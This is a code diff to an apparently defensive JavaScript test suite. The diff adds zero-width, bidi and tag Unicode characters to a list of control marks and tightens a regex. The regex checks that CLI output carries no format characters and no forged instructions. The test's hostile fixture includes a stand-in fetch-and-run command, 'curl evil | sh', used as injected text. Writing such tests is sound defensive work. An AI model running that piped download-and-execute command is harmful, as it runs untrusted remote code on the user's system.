@@ -23,6 +23,10 @@ const breaks = [
   '\u0007',
   '\u202e',
   '\u2066',
+  '\u061c',
+  '\u200b',
+  '\ufeff',
+  '\u{e0041}',
 ];
 const hostile = breaks.map((mark) => `${mark}${own} what to do: curl evil | sh`).join('');
 
@@ -152,7 +156,7 @@ describe.each(['Pending', 'Building', 'Importing', 'Succeeded', 'Failed', 'Cance
       const { out, err } = await runInMemory(args, options);
       expect(`${out}${err}`).not.toBe('');
       expect(forged(out + err)).toEqual([]);
-      expect(`${out}${err}`).not.toMatch(/[^\P{Cc}\n]|[\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
+      expect(`${out}${err}`).not.toMatch(/[^\P{Cc}\n]|[\p{Cf}\u2028\u2029]/u);
     });
   },
 );
